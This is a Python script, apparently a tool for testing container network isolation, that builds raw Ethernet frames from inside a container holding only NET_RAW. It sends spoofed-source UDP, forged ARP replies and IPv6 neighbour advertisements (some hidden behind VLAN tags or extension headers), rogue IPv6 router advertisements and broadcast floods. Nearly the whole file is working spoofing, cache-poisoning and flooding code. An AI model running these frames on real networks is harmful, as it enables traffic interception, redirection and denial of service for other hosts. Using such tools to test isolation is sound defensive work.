"""What a hostile container sends by a raw socket: python3 frames.py WHAT [ARGS], or a line of these each on stdin. It needs NET_RAW alone."""
import socket, struct, sys, time

def text4(address): return socket.inet_pton(socket.AF_INET, address)
def text6(address): return socket.inet_pton(socket.AF_INET6, address)

def checksum(data):
    data += b'\0' * (len(data) % 2)
    total = sum(struct.unpack('!%dH' % (len(data) // 2), data))
    while total >> 16: total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff

def icmpv6(source, target, payload, behind=False):
    pseudo = text6(source) + text6(target) + struct.pack('!I3xB', len(payload), 58)
    payload = payload[:2] + struct.pack('!H', checksum(pseudo + payload)) + payload[4:]
    if behind: payload = bytes((58, 0, 1, 4, 0, 0, 0, 0)) + payload  # behind a header of options
    return struct.pack('!IHBB', 6 << 28, len(payload), 60 if behind else 58, 255) + text6(source) + text6(target) + payload

def udp(source, target, payload):
    udp = struct.pack('!HHHH', 4000, 4000, 8 + len(payload), 0) + payload
    if ':' in source:
        pseudo = text6(source) + text6(target) + struct.pack('!I3xB', len(udp), 17)
        udp = udp[:6] + struct.pack('!H', checksum(pseudo + udp)) + udp[8:]
        return b'\x86\xdd' + struct.pack('!IHBB', 6 << 28, len(udp), 17, 64) + text6(source) + text6(target) + udp
    head = struct.pack('!BBHHHBBH', 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0) + text4(source) + text4(target)
    return b'\x08\x00' + head[:10] + struct.pack('!H', checksum(head)) + head[12:] + udp

raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
raw.bind(('eth0', 0))
own = raw.getsockname()[4]

def send(what, *args):
    if what == 'udp':  # SOURCE TARGET MAC
        raw.send(bytes.fromhex(args[2].replace(':', '')) + own + udp(args[0], args[1], b'spoofed'))
    elif what == 'lie':  # HOW ADDRESS MAC TARGET [TO [SOURCE]]: tells the VM, or who has the MAC TO, that the address is at that MAC; IPv6: from SOURCE
        how, address, mac, target = args[0], args[1], bytes.fromhex(args[2].replace(':', '')), args[3]
        group, tag = b'\xff' * 6 if ':' not in address else b'\x33\x33\0\0\0\1', b''
        to, source = {'group': (group, group), 'elsewhere': (own, mac), 'broadcast': (group, mac)}.get(how, (own, own))
        if len(args) > 4: to = bytes.fromhex(args[4].replace(':', ''))
        if how == 'tag': tag = b'\x81\x00\x00\x00'
        if ':' not in address:
            arp = struct.pack('!HHBBH', 1, 0x800, 6, 4, 2 if how == 'answer' else 1)
            raw.send(to + source + tag + b'\x08\x06' + arp + mac + text4(address) + own + text4(target))
        else:
            kind, flags, about, option = (136, 0x20000000, address, 2) if how == 'answer' else (135, 0, target, 1)
            raw.send(to + source + tag + b'\x86\xdd' + icmpv6(args[5] if len(args) > 5 else address, target, struct.pack('!BBHI', kind, 0, 0, flags) + text6(about) + bytes((option, 1)) + mac, how == 'behind'))
    elif what == 'ra':  # PREFIX TARGET-MAC|all TARGET: a router advertisement
        prefix, mac, target = args
        prefix_info = struct.pack('!BBBBIII', 3, 4, 64, 0xc0, 3600, 1800, 0) + text6(prefix)
        advert = struct.pack('!BBHBBHII', 134, 0, 0, 64, 0, 1800, 0, 0) + prefix_info
        to = b'\x33\x33\0\0\0\1' if mac == 'all' else own
        raw.send(to + own + b'\x86\xdd' + icmpv6('fe80::bad', target, advert))
    elif what == 'flood':  # COUNT SIZE: broadcasts
        frame = b'\xff' * 6 + own + b'\x88\xb5' + bytes(int(args[1]) - 14)
        begin, sent = time.monotonic(), 0
        for _ in range(int(args[0])):
            try: raw.send(frame); sent += 1
            except OSError: pass
        print(sent, round(time.monotonic() - begin, 3))

if len(sys.argv) > 1: send(*sys.argv[1:])
else:
    for line in sys.stdin: send(*line.split())
